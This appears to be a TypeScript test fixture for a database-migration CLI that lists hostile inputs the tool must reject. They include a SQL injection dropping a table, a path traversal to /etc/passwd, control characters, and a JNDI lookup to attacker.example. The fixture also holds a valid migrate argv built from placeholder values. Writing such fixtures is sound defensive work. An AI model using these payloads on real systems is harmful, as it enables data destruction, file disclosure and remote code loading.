/** The password inside HOSTILE's URL: it must never be echoed. */
export const HOSTILE_PASSWORD = 'hunter2';

export const HOSTILE_URL = `postgresql://admin:${HOSTILE_PASSWORD}@db.example.org:5432/app`;

/** Values a careless or hostile caller might pass anywhere: each must be refused where it does not belong. */
export const HOSTILE = [
  "x'; DROP TABLE account; --",
  HOSTILE_URL,
  '../../etc/passwd',
  'a\u0000b',
  'line\nbreak',
  '${jndi:ldap://attacker.example/x}',
];

export const OVERSIZED = 'x'.repeat(100_000);

/** A valid `dr migrate` command line (secret references, real-looking endpoints and record). */
export const MIGRATE_ARGV = [
  'migrate',
  '--blue-db-secret',
  'pg-dr/blue',
  '--green-db-secret',
  'arn:aws:secretsmanager:us-east-1:111122223333:secret:pg-dr/green-AbCdEf',
  '--blue-endpoint',
  'blue.abc.us-west-2.rds.amazonaws.com',
  '--green-endpoint',
  'green.def.us-west-2.rds.amazonaws.com',
  '--green-instance-id',
  'pg-dr-green',
  '--dns-zone',
  'Z0EXAMPLE12345',
  '--dns-record',
  'db.provability-fabric.org',
  '--smoke-test-url',
  'https://api.provability-fabric.org/health',
];
